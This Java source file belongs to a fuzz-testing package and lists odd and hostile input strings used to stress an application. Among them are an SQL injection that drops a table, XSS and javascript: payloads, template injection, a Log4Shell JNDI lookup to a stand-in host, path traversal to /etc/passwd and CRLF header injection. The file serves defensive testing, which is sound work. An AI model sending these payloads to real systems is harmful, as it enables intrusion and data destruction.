package org.redress.partner.fuzz;

import java.util.List;
import java.util.Random;

/** Texts, from harmless to hostile. */
final class Texts {
    private static final List<String> STRANGE = List.of(
            "",
            " ",
            "null",
            "undefined",
            "true",
            "0",
            "-1",
            "1e999",
            "NaN",
            "\u0000",
            "a\u0000b",
            "\uFEFF",
            "\u202E\u2066",
            "\uFFFE",
            "e\u0301",
            "\uD83D\uDE00",
            "İıſ",
            "'; drop table case_file; --",
            "\" or \"\"=\"",
            "<script>alert(1)</script>",
            "{{7*7}}",
            "${jndi:ldap://x.example/a}",
            "../../etc/passwd",
            "%00",
            "%",
            "\\",
            "\r\nX-Injected: 1",
            "\t",
            "2026-02-30",
            "2026-01-01T00:00:00",
            "9999-12-31T23:59:59.999999999Z",
            "-292275055-05-16T16:47:04Z",
            "+1000000000-12-31T23:59:59Z",
            "00000000-0000-0000-0000-000000000000",
            "1-1-1-1-1",
            "https://",
            "javascript:alert(1)",
            "http://[::1]/");

    private Texts() {}

    static String strange(Random random) {
        return STRANGE.get(random.nextInt(STRANGE.size()));
    }

    /** Any text of so many characters of the Unicode repertoire, without halves of pairs and without NUL. */
    static String any(Random random, int least, int most) {
        int length = least + random.nextInt(Math.max(1, most - least + 1));
        StringBuilder text = new StringBuilder();
        while (text.length() < length) {
            text.appendCodePoint(point(random, length - text.length()));
        }
        return text.toString();
    }

    private static int point(Random random, int room) {
        int kind = random.nextInt(10);
        if (kind < 6) {
            return 'a' + random.nextInt(26);
        }
        if (kind < 8) {
            return 0x20 + random.nextInt(0x5f);
        }
        return kind == 8 || room < 2 ? 0xA1 + random.nextInt(0x2000) : 0x1F300 + random.nextInt(0x300);
    }
}
